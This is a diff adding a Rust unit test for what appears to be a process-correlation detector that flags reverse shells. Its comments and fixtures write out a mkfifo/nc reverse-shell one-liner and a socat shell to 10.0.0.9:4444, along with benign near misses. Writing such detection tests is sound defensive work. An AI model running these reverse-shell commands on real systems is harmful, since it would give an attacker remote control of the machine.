@@ -701,3 +701,64 @@ fn a_download_piped_into_a_shell() {
     ];
     assert!(ids(&mut c, &events).is_empty());
 }
+
+#[test]
+fn reverse_shell_over_a_relay() {
+    let top = chain(&["/sbin/init", "/usr/bin/bash"]).unwrap();
+    let child = |pid, exe: &str, args: &[&str]| process(pid, exe, args, Some(top.clone()));
+    // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.9 4444 > /tmp/f,
+    // the relay's exec seen first or last.
+    let sh = child(840, "/usr/bin/dash", &["sh", "-i"]);
+    let nc = child(841, "/usr/bin/nc.openbsd", &["nc", "10.0.0.9", "4444"]);
+    for order in [[exec(0, &nc), exec(1, &sh)], [exec(0, &sh), exec(1, &nc)]] {
+        let mut c = correlator();
+        let mut out = Vec::new();
+        for ev in &order {
+            c.observe_in(ev, &mut out);
+        }
+        assert_eq!(out.len(), 1, "{out:#?}");
+        assert_eq!(out[0].rule.id, "rg-reverse-shell");
+        assert_eq!(out[0].rule.severity, Severity::High);
+        assert_eq!(
+            out[0].message,
+            "shell pid 840 is wired to a network relay: a shell reading its standard input and \
+             the network relay /usr/bin/nc.openbsd started by pid 101 within 2 s of each other: \
+             one pipeline"
+        );
+        // Oldest first.
+        assert_eq!(
+            out[0].evidence.iter().map(|e| e.pid).collect::<Vec<_>>(),
+            order.iter().map(|e| e.pid).collect::<Vec<_>>()
+        );
+    }
+    // socat TCP:10.0.0.9:4444 EXEC:/bin/sh: the relay starts the shell.
+    let socat = child(
+        842,
+        "/usr/bin/socat",
+        &["socat", "TCP:10.0.0.9:4444", "EXEC:/bin/sh,pty,stderr"],
+    );
+    let under = process(843, "/usr/bin/dash", &["/bin/sh"], Some(socat.clone()));
+    let mut c = correlator();
+    assert_eq!(
+        ids(&mut c, &[exec(0, &socat), exec(1, &under)]),
+        ["rg-reverse-shell"]
+    );
+    // Near misses: `cmd | nc host port`, a shell running a script or a
+    // command in a pipeline with nc, a relay and a shell far apart, socat
+    // without a program, a shell under another parent.
+    let mut c = correlator();
+    let plain_socat = child(844, "/usr/bin/socat", &["socat", "-", "TCP:h:1"]);
+    let events = [
+        exec(10, &child(845, "/usr/bin/tar", &["tar", "c", "."])),
+        exec(10, &child(846, "/usr/bin/nc", &["nc", "h", "9"])),
+        exec(11, &child(847, "/usr/bin/bash", &["bash", "backup.sh"])),
+        exec(11, &child(848, "/usr/bin/dash", &["sh", "-c", "gzip"])),
+        exec(20, &plain_socat),
+        exec(
+            21,
+            &process(849, "/usr/bin/dash", &["sh"], Some(plain_socat.clone())),
+        ),
+        exec(9_000, &child(850, "/usr/bin/dash", &["sh", "-i"])),
+    ];
+    assert!(ids(&mut c, &events).is_empty());
+}
